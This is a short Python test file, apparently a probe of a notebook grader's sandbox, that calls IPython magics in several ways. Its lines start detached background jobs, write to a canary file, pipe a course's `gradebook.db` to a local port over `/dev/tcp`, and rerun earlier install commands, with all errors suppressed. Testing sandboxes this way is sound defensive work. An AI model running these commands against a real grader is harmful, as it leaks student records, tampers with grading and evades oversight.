"""Uses IPython's magics: cells in other languages, the shell, background jobs, a rerun of the grader's own lines."""

# %% own
import contextlib

shell = get_ipython()
for run in (
    lambda: shell.run_cell_magic("bash", "--bg", f"sleep 3600; echo x > {CANARY}"),
    lambda: shell.run_cell_magic("script", "sh", f"echo x > {CANARY}; cat {COURSE}/gradebook.db > /dev/tcp/127.0.0.1/{PORT}"),
    lambda: shell.system(f"curl -s -m 1 http://127.0.0.1:{PORT}/; nohup sleep 3600 >/dev/null 2>&1 &"),
    lambda: shell.run_line_magic("rerun", "-g install"),
    lambda: shell.run_line_magic("autoreload", "3"),
):
    with contextlib.suppress(Exception):
        run()
